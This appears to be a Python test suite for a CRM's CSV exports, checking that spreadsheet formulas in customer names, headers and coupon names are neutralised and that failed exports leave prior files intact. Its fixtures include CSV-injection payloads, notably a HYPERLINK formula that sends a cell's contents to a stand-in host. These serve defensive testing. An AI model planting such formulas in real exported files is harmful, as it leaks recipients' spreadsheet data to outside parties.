"""Exports written by DuckDB's COPY with formulas neutralised in SQL: byte for byte the pandas writer's file (issue 16)."""

from __future__ import annotations

import sys
import unicodedata

import pytest

from crm_core import model
from crm_core.audience import segments as S
from crm_core.db import Store
from crm_core.export import FORMULA_FIRST, copy_csv, cp932_unencodable, to_csv_bytes
from crm_core.messaging import coupons as K
from crm_core.model import export as model_export
from crm_core.pipeline import import_files
from tests import fixtures as fx

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"ゴールド")'
HOSTILE = [
    "=1+2", "+81 90", "-5", "@SUM(A1)", "\tタブ", "\r改行", "＝SUM(A1)", "＋1", "－1", "＠x", "⁼x", "﹦x", "⩵x",
    "=\u0338x", "", None, 'a,"b"', "行1\r\n行2", "𠮷田 é😀", "髙橋 ①子", "普通", " =space first", "'=already",
]


def _hostile_store() -> Store:
    store = Store(":memory:")
    store.execute(
        "CREATE TABLE t (i INTEGER, txt VARCHAR, n BIGINT, d DOUBLE, m DECIMAL(18,2), b BOOLEAN, ts TIMESTAMP, day DATE)"
    )
    for i, text in enumerate(HOSTILE):
        store.execute(
            "INSERT INTO t VALUES (?, ?, ?, ?, ?, ?, TIMESTAMP '2026-01-02 03:04:05' + to_days(?), DATE '2026-01-02' + ?)",
            [i, text, None if i % 3 else i * 1000, [1.5, float("nan"), None, 1e20, 0.1][i % 5], [5760, None, 12.5][i % 3],
             [True, False, None][i % 3], i, i],
        )
    return store


def test_formula_first_is_every_character_nfkc_starts_a_formula_with():
    starts = ("=", "+", "-", "@", "\t", "\r")
    every = {
        chr(c) for c in range(sys.maxunicode + 1)
        if not 0xD800 <= c <= 0xDFFF and unicodedata.normalize("NFKC", chr(c)).startswith(starts)
    }
    assert set(FORMULA_FIRST) == every


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
@pytest.mark.parametrize("headers", [["i", "txt", "n", "d", "m", "b", "ts", "day"],
                                     ["番号", EVIL, "+n", "-d", "@m", "\tb", "＝ts", "day"]])
def test_copy_csv_writes_the_pandas_writers_bytes_for_hostile_cells_and_headers(tmp_path, encoding, headers):
    store = _hostile_store()
    names = ["i", "txt", "n", "d", "m", "b", "ts", "day"]
    df = store.df("SELECT " + ", ".join(names) + " FROM t ORDER BY i")
    df.columns = headers
    # what the earlier writers did: DataFrame.to_csv after neutralise(), the header row included
    expected = to_csv_bytes(df, encoding)
    out = tmp_path / "t.csv"
    bad: set[str] = set()
    rows = copy_csv(store, list(zip(names, headers)), "FROM t ORDER BY i", None, out, encoding, bad)
    assert rows == len(HOSTILE)
    assert out.read_bytes() == expected
    assert bad == (cp932_unencodable(df) if encoding == "cp932" else set())
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]  # nothing left beside it


def test_copy_csv_is_all_or_nothing(tmp_path):
    store = _hostile_store()
    out = tmp_path / "t.csv"
    out.write_bytes(b"previous export")
    with pytest.raises(Exception, match="(?i)convert|conversion"):
        copy_csv(store, [("CAST(txt AS INTEGER)", "x")], "FROM t WHERE txt IS NOT NULL", None, out)
    assert out.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("shop")
    store = Store(tmp / "crm.duckdb")
    import_files(store, [fx.rakuten_current(tmp / "r.csv")])
    ids = [r[0] for r in store.fetchall("SELECT customer_id FROM customer_model ORDER BY customer_id")]
    for cid, text in zip(ids, HOSTILE):
        store.execute("UPDATE customer_model SET name = ?, prefecture = ?, last_product_name = ? WHERE customer_id = ?",
                      [text, text, text, cid])
    return store


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
def test_customer_export_matches_the_pandas_writer(shop, tmp_path, encoding):
    old, new = tmp_path / "old.csv", tmp_path / "new.csv"
    bad_old: set[str] = set()
    bad_new: set[str] = set()
    n_old = model_export._write_export_pandas(shop, old, encoding, bad_old)
    n_new = model.export_customers(shop, new, encoding=encoding, unencodable=bad_new)
    assert n_new == n_old > 0
    assert new.read_bytes() == old.read_bytes()
    assert bad_new == bad_old
    assert "'=1+2" in new.read_bytes().decode(encoding)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
@pytest.mark.parametrize("opted_in_only", [False, True])
def test_segment_export_matches_the_pandas_writer(shop, tmp_path, encoding, opted_in_only):
    rule = {"all": [{"field": "orders", "op": "gte", "value": 1}]}
    df = S.export_frame(shop, rule, opted_in_only)
    out = tmp_path / "seg.csv"
    report = S.export_csv(shop, rule, out, encoding=encoding, opted_in_only=opted_in_only)
    assert report["rows"] == len(df)
    assert out.read_bytes() == to_csv_bytes(df, encoding)
    assert report["unencodable"] == (sorted(cp932_unencodable(df)) if encoding == "cp932" else [])


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
def test_coupon_code_export_matches_the_pandas_writer(shop, tmp_path, encoding):
    import datetime as dt

    coupon = K.Coupon(name=EVIL + "😀", kind="percent", value=10, min_purchase=3000, code_mode="unique",
                      valid_from=dt.datetime(2026, 12, 1), valid_to=dt.datetime(2026, 12, 31, 23, 59))
    cid = K.create_coupon(shop, coupon)
    K.issue_unique_codes(shop, cid, [r[0] for r in shop.fetchall("SELECT customer_id FROM customer_model")])
    df = K.export_codes(shop, cid)
    out = tmp_path / "codes.csv"
    report = K.export_codes_csv(shop, cid, out, encoding)
    assert report["rows"] == len(df) > 0
    assert out.read_bytes() == to_csv_bytes(df, encoding)
    assert report["unencodable"] == (sorted(cp932_unencodable(df)) if encoding == "cp932" else [])


def test_cp932_copy_csv_is_all_or_nothing_and_ends_when_the_query_fails(tmp_path):
    """cp932 goes through a pipe to a transcoding thread: a failing COPY must end both sides and leave nothing."""
    import threading

    store = _hostile_store()
    out = tmp_path / "t.csv"
    out.write_bytes(b"previous export")
    errors: list[BaseException] = []

    def run() -> None:
        try:
            copy_csv(store, [("CAST(txt AS INTEGER)", "x")], "FROM t WHERE txt IS NOT NULL", None, out, "cp932")
        except Exception as exc:  # noqa: BLE001 - the test inspects it
            errors.append(exc)

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(120)
    assert not worker.is_alive(), "the export hung"
    assert errors and "onver" in str(errors[0])
    assert out.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["t.csv"]


def test_cp932_copy_csv_of_many_rows_matches_the_pandas_writer(tmp_path):
    """Enough rows that the pipe splits multi-byte characters between reads."""
    store = Store(":memory:")
    store.execute(
        "CREATE TABLE big AS SELECT i, (['髙橋 ①子', '普通の名前', '=式', 'abc', '𠮷田 é😀', '東京都'])[i % 6 + 1] || i AS txt "
        "FROM range(60000) r(i)"
    )
    df = store.df("SELECT i, txt FROM big ORDER BY i")
    out = tmp_path / "big.csv"
    bad: set[str] = set()
    assert copy_csv(store, [("i", "番号"), ("txt", "名前")], "FROM big ORDER BY i", None, out, "cp932", bad) == 60000
    df.columns = ["番号", "名前"]
    assert out.read_bytes() == to_csv_bytes(df, "cp932")
    assert bad == cp932_unencodable(df) and bad


def test_coupon_code_export_names_each_customer_by_the_shops_number(tmp_path):
    """RMS and Shopify know a customer by the shop's own number, not by the console's internal id."""
    import datetime as dt

    shop = Store(tmp_path / "crm.duckdb")
    import_files(shop, [fx.shopify_orders(tmp_path / "s.csv"), fx.shopify_customers(tmp_path / "c.csv"),
                        fx.rakuten_current(tmp_path / "r.csv")])
    coupon = K.Coupon(name="番号つき", kind="yen", value=500, min_purchase=0, code_mode="unique",
                      valid_from=dt.datetime(2026, 12, 1), valid_to=dt.datetime(2026, 12, 31, 23, 59))
    cid = K.create_coupon(shop, coupon)
    ids = [r[0] for r in shop.fetchall("SELECT customer_id FROM customers ORDER BY customer_id")]
    assert any(shop.fetchall("SELECT 1 FROM customers WHERE customer_key IS NOT NULL")), "Shopify customers have a number"
    K.issue_unique_codes(shop, cid, ids)
    df = K.export_codes(shop, cid)
    assert list(df.columns[:3]) == ["クーポンコード", "顧客ID", "ショップの顧客番号"]
    keys = dict(shop.fetchall("SELECT customer_id, customer_key FROM customers WHERE customer_id IN (SELECT unnest(?))", [ids]))
    shown = df["ショップの顧客番号"].astype(object).where(df["ショップの顧客番号"].notna(), None)
    assert dict(zip(df["顧客ID"], shown, strict=True)) == keys
    assert "7001" in keys.values()  # a Shopify number, not only empty cells


def test_cp932_copy_csv_names_every_replaced_character_when_one_is_on_every_line_and_others_come_late(tmp_path):
    """A character cp932 cannot carry on every line (the coupon file's ``¥``) is counted rather than collected one call
    at a time: the file and the characters reported stay those of the pandas writer, also for characters that first
    appear megabytes later, for more distinct ones than are counted, and next to real question marks."""
    store = Store(":memory:")
    late = "".join(chr(0x1F600 + k) for k in range(12))  # twelve emoji, each on one line: seven a megabyte apart, five at the end
    store.execute(
        "CREATE TABLE big AS SELECT i, '¥3,000以上のお買い物で' AS cond, CASE"
        " WHEN i % 20000 = 10000 THEN '顧客' || substr($late, i // 20000 + 1, 1) || '?'"
        " WHEN i >= 149990 AND i < 149995 THEN '顧客' || substr($late, i - 149990 + 8, 1) || '?'"
        " ELSE '顧客' || i END AS name FROM range(150000) r(i)", {"late": late})
    df = store.df("SELECT i, cond, name FROM big ORDER BY i")
    out = tmp_path / "big.csv"
    bad: set[str] = set()
    assert copy_csv(store, [("i", "番号"), ("cond", "利用条件"), ("name", "氏名")], "FROM big ORDER BY i", None, out, "cp932",
                    bad) == 150000
    df.columns = ["番号", "利用条件", "氏名"]
    assert out.stat().st_size > 4 << 20  # several reads of the pipe
    assert out.read_bytes() == to_csv_bytes(df, "cp932")
    assert bad == cp932_unencodable(df) == {"¥", *late}
